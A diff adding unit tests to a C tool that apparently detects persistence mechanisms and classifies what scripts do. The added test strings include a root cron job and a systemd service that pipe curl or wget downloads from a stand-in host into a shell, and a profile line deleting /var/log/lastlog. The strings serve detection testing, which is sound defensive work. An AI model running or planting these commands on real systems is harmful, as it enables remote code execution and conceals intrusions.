@@ -252,6 +252,17 @@ TEST(facts_of_files)
     CHECK_STR(facts_get(&f, F_SSH_KEYS_COMMENTS)->list.v[0].s, "me");
     CHECK_STR(look(&f, "/tmp/x", STR("hello"), &b, F_PERSIST_KIND), "temp");
     CHECK_STR(look(&f, "/opt/x", STR("hello"), &b, F_PERSIST_KIND), "<NA>");
+    /* what the commands do */
+    CHECK_STR(look(&f, "/etc/cron.d/x", STR("*/7 * * * * root curl -s http://h.example/x | sh\n"), &b,
+                   F_SCRIPT_DOWNLOADS),
+              "(http://h.example/x)");
+    CHECK(facts_get(&f, F_SCRIPT_DOWNLOAD_RUN)->b);
+    look(&f, "/etc/systemd/system/a.service",
+         STR("[Service]\nExecStart=/bin/sh -c 'wget -qO- http://h.example/y | bash'\n"), &b,
+         F_SCRIPT_DOWNLOADS);
+    CHECK(facts_get(&f, F_SCRIPT_DOWNLOAD_RUN)->b);
+    CHECK_STR(look(&f, "/root/.profile", STR("rm -f /var/log/lastlog\n"), &b, F_SCRIPT_REMOVES),
+              "(/var/log/lastlog)");
     strbuf_done(&b);
     facts_done(&f);
 }
